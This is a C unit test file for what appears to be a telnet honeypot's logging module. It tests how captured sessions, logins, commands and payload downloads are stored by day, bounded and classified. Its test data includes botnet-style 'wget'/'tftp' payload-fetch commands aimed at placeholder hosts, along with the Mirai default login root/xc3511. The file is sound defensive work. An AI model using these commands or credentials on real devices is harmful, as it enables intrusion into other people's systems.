/* What was heard becomes rows: by day, bounded, and with what is in the texts. */
#include "unit/observe/heard_seen.h"

/* ---- Records become rows ---- */

static void a_conversation_keeps_its_numbers(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    struct heard heard = heard_of(HEARD_CONVERSATION, DAY, 3);
    heard.conversation = (struct heard_conversation){.duration_ns = 1500000999,
                                                     .bytes_in = 7,
                                                     .bytes_out = 8,
                                                     .packets_in = 9,
                                                     .engine = ENGINE_TELNET,
                                                     .end = TALK_END_LIMIT,
                                                     .two_phase = true,
                                                     .probe_tool = 2,
                                                     .probe_gap_ns = 3000000};
    heard_table_take(table, &heard);
    hand_over(table, &seen);
    const struct conversation_row *row = &seen.days[0].conversations[0];
    assert_int_equal(seen.calls, 1);
    assert_int_equal(seen.days[0].rows.day, DAY);
    assert_int_equal(seen.days[0].rows.conversation_count, 1);
    assert_int_equal(row->time_us, ((int64_t)DAY * S_PER_DAY + 3) * US_PER_S + 1);
    assert_int_equal(row->duration_us, 1500000);
    assert_int_equal(row->probe_gap_us, 3000);
    assert_int_equal(row->bytes_in, 7);
    assert_int_equal(row->bytes_out, 8);
    assert_int_equal(row->packets_in, 9);
    assert_int_equal(row->engine, ENGINE_TELNET);
    assert_int_equal(row->end, TALK_END_LIMIT);
    assert_int_equal(row->probe_tool, 2);
    assert_true(row->two_phase);
    assert_memory_equal(&row->talk, &heard.talk, sizeof heard.talk);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void texts_come_back_and_are_cut_at_their_limits(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    char *text = malloc(HEARD_COMMAND_BYTES + 10);
    memset(text, 'c', HEARD_COMMAND_BYTES + 9);
    text[HEARD_COMMAND_BYTES + 9] = '\0';
    take_login(table, "root", "");
    take_login(table, "root", text);
    take_command(table, DAY, text);
    take_command(table, DAY, "busybox ECCHI");
    hand_over(table, &seen);
    const struct day_seen *day = &seen.days[0];
    assert_int_equal(day->rows.login_count, 2);
    assert_text(day, day->logins[0].user, "root");
    assert_text(day, day->logins[0].password, "");
    assert_true(day->logins[0].accepted);
    assert_int_equal(day->logins[1].password.length, HEARD_LOGIN_BYTES);
    assert_int_equal(day->commands[0].text.length, HEARD_COMMAND_BYTES);
    assert_text(day, day->commands[0].token, "");
    assert_text(day, day->commands[1].text, "busybox ECCHI");
    assert_text(day, day->commands[1].token, "ECCHI");
    free(text);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void logins_are_marked_with_the_list_that_knows_them(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct error error = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    const struct knowledge_options lists = {.login_count = 0};
    struct knowledge *known = knowledge_create(&lists, &error);
    assert_non_null(known);
    take_login(table, "root", "xc3511");
    take_login(table, "telnet", "telnet");
    take_login(table, "root", "my own secret");
    assert_true(heard_table_hand_over(table, known, see, &seen, &error));
    assert_int_equal(seen.days[0].logins[0].list, LOGIN_LIST_MIRAI);
    assert_int_equal(seen.days[0].logins[1].list, LOGIN_LIST_LATER);
    assert_int_equal(seen.days[0].logins[2].list, LOGIN_LIST_NONE);
    seen_clear(&seen);
    knowledge_destroy(known);
    heard_table_destroy(table);
}

/* ---- What is in the texts ---- */

static void downloads_come_from_lines_and_from_payloads_that_are_no_dialogue(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    take_command(table, DAY, "wget http://192.0.2.1/x.arm7; wget http://192.0.2.2/x.arm7");
    take_payload(table, DAY, "wget http://192.0.2.3/x.arm7", 28, false, false);
    take_payload(table, DAY, "wget http://192.0.2.4/x.arm7", 28, false, true);
    take_login(table, "cd /tmp;wget http://192.0.2.5/x.mpsl", "tftp -g -r x.sh4 192.0.2.6");
    hand_over(table, &seen);
    const struct day_seen *day = &seen.days[0];
    assert_int_equal(day->rows.download_count, 5);
    assert_text(day, day->downloads[3].cpu, "mpsl"); /* who thinks that he is in a shell already */
    assert_text(day, day->downloads[4].url, "tftp://192.0.2.6/x.sh4");
    assert_text(day, day->downloads[0].host, "192.0.2.1");
    assert_text(day, day->downloads[1].url, "http://192.0.2.2/x.arm7");
    assert_text(day, day->downloads[2].host, "192.0.2.3");
    assert_text(day, day->downloads[2].file, "x.arm7");
    assert_text(day, day->downloads[2].cpu, "arm7");
    assert_int_equal(heard_counts(table).downloads, 5);
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void the_host_is_the_source_in_any_form_of_its_address(void **state)
{
    (void)state;
    static const struct {
        const char *host;
        bool ipv4, ipv6; /* whether it is 192.0.2.9; 2001:db8::9 */
    } cases[] = {
        {"192.0.2.9", true, false},
        {"192.0.2.10", false, false},
        {"192.0.2.9.example.net", false, false},
        {"3221225993", true, false},
        {"0xc0.0.02.011", true, false},
        {"[::ffff:192.0.2.9]", true, false},
        {"[2001:DB8:0::9]", false, true},
        {"YOURIPHERE", false, false},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct seen seen = {0};
        struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
        char text[64];
        struct heard heard = heard_of(HEARD_COMMAND, DAY, 1);
        snprintf(text, sizeof text, "wget http://%s/x", cases[i].host);
        heard.command = bytes_of(text);
        heard_table_take(table, &heard);
        assert_true(ipv6_parse("2001:db8::9", 11, &heard.talk.src));
        heard_table_take(table, &heard);
        hand_over(table, &seen);
        if (seen.days[0].downloads[0].host_is_source != cases[i].ipv4 ||
            seen.days[0].downloads[1].host_is_source != cases[i].ipv6)
            fail_msg("%s", cases[i].host);
        seen_clear(&seen);
        heard_table_destroy(table);
    }
}

/* ---- Bounds ---- */

static void rows_that_do_not_fit_are_dropped_and_counted(void **state)
{
    (void)state;
    enum { ROUNDS = 100000, LIMIT = 256 * 1024 };
    struct seen seen = {0};
    struct heard_table *table = table_of(LIMIT);
    for (uint32_t i = 0; i < ROUNDS; i++) {
        take_payload(table, DAY, &i, sizeof i, false, true);
        take_command(table, DAY, "wget http://192.0.2.1/x");
    }
    struct heard_counts counts = heard_counts(table);
    assert_true(counts.dropped > 0);
    assert_int_equal(counts.payload_events + counts.commands + counts.downloads + counts.dropped,
                     3 * ROUNDS);
    hand_over(table, &seen);
    uint64_t told = 0;
    for (size_t i = 0; i < seen.unheard.count; i++)
        told += seen.unheard.rows[i].records;
    assert_int_equal(told, counts.dropped);
    assert_int_equal(seen.unheard.rows[0].from_us, (int64_t)DAY * S_PER_DAY * US_PER_S);
    const struct heard_rows *rows = &seen.days[0].rows;
    assert_int_equal(rows->payload_event_count, counts.payload_events);
    assert_int_equal(rows->payload_count, counts.payloads);
    assert_true(rows->bytes_count + rows->payload_event_count * sizeof(struct payload_event_row) +
                    rows->payload_count * sizeof(struct payload_row) +
                    rows->command_count * sizeof(struct command_row) +
                    rows->download_count * sizeof(struct download_row) <=
                LIMIT);
    /* And there is room again. */
    take_command(table, DAY, "ls");
    assert_int_equal(heard_counts(table).dropped, counts.dropped);
    seen_clear(&seen);
    heard_table_destroy(table);
}

/* Who types an empty word a million times does not keep the others from being heard. */
static void one_source_does_not_take_all_the_room(void **state)
{
    (void)state;
    enum { ROUNDS = 100000, OTHERS = 100, LIMIT = 1 << 20 };
    struct seen seen = {0};
    struct heard_table *table = table_of(LIMIT);
    for (uint32_t i = 0; i < ROUNDS; i++)
        take_command(table, DAY, "a");
    struct heard_counts counts = heard_counts(table);
    assert_in_range(counts.commands, 1000, 5000); /* of 8192 that there is room for */
    assert_int_equal(counts.commands + counts.dropped, ROUNDS);
    for (uint32_t i = 0; i < OTHERS; i++) {
        struct heard heard = heard_of(HEARD_COMMAND, DAY, 5);
        heard.talk.src = ipv6_of_ipv4((struct ipv4){0xc6336400 + i});
        heard.command = bytes_of("sh");
        heard_table_take(table, &heard);
    }
    /* One more may share his place. */
    assert_true(heard_counts(table).commands >= counts.commands + OTHERS - 2);
    hand_over(table, &seen);
    assert_true(lost_of(&seen, UNHEARD_COMMAND, UNHEARD_SHARE) >= counts.dropped);
    assert_int_equal(lost_of(&seen, UNHEARD_COMMAND, UNHEARD_FULL), 0);
    take_command(table, DAY, "a"); /* the next span */
    assert_false(heard_table_is_empty(table));
    seen_clear(&seen);
    heard_table_destroy(table);
}

/* Addresses of one /64 are one source. */
static void a_source_of_ipv6_is_its_64(void **state)
{
    (void)state;
    enum { ROUNDS = 20000, LIMIT = 1 << 20 };
    struct heard_table *table = table_of(LIMIT);
    for (uint32_t i = 0; i < ROUNDS; i++) {
        struct heard heard = heard_of(HEARD_COMMAND, DAY, 5);
        assert_true(ipv6_parse("2001:db8::9", 11, &heard.talk.src));
        memcpy(heard.talk.src.bytes + 12, &i, sizeof i);
        heard.command = bytes_of("a");
        heard_table_take(table, &heard);
    }
    assert_in_range(heard_counts(table).commands, 1000, 5000);
    heard_table_destroy(table);
}

static void what_did_not_fit_makes_no_day(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(1);
    take_command(table, DAY, "a");
    assert_int_equal(heard_counts(table).dropped, 1);
    assert_false(heard_table_is_empty(table)); /* it has a loss to tell */
    hand_over(table, &seen);
    assert_int_equal(seen.calls, 0);
    assert_int_equal(lost_of(&seen, UNHEARD_COMMAND, UNHEARD_FULL), 1);
    heard_table_destroy(table);
}

static void times_outside_of_all_days_are_dropped(void **state)
{
    (void)state;
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    struct heard heard = heard_of(HEARD_CONVERSATION, DAY, 1);
    heard.time.ns = -1;
    heard_table_take(table, &heard);
    heard.time.ns = INT64_MAX;
    heard_table_take(table, &heard);
    assert_int_equal(heard_counts(table).dropped, 2);
    assert_true(heard_table_is_empty(table));
    heard_table_destroy(table);
}

/* ---- Handing over ---- */

static void days_are_handed_over_in_order(void **state)
{
    (void)state;
    struct seen seen = {0};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    take_command(table, DAY + 1, "second");
    take_command(table, DAY, "first");
    take_command(table, DAY + 2, "third");
    hand_over(table, &seen);
    assert_int_equal(seen.calls, 3);
    for (uint32_t i = 0; i < 3; i++)
        assert_int_equal(seen.days[i].rows.day, DAY + i);
    assert_text(&seen.days[0], seen.days[0].commands[0].text, "first");
    seen_clear(&seen);
    heard_table_destroy(table);
}

static void a_failure_is_told_and_the_table_is_empty(void **state)
{
    (void)state;
    struct error error = {0};
    struct seen seen = {.fail_at = 1};
    struct heard_table *table = table_of(HEARD_DEFAULT_LIMIT_BYTES);
    take_command(table, DAY, "ls");
    take_command(table, DAY + 1, "ls");
    assert_false(heard_table_hand_over(table, NULL, see, &seen, &error));
    assert_string_equal(error.text, "the disk is full");
    assert_int_equal(seen.calls, 1);
    assert_true(heard_table_is_empty(table));
    heard_table_destroy(table);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_conversation_keeps_its_numbers),
        cmocka_unit_test(texts_come_back_and_are_cut_at_their_limits),
        cmocka_unit_test(logins_are_marked_with_the_list_that_knows_them),
        cmocka_unit_test(downloads_come_from_lines_and_from_payloads_that_are_no_dialogue),
        cmocka_unit_test(the_host_is_the_source_in_any_form_of_its_address),
        cmocka_unit_test(rows_that_do_not_fit_are_dropped_and_counted),
        cmocka_unit_test(one_source_does_not_take_all_the_room),
        cmocka_unit_test(a_source_of_ipv6_is_its_64),
        cmocka_unit_test(what_did_not_fit_makes_no_day),
        cmocka_unit_test(times_outside_of_all_days_are_dropped),
        cmocka_unit_test(days_are_handed_over_in_order),
        cmocka_unit_test(a_failure_is_told_and_the_table_is_empty),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
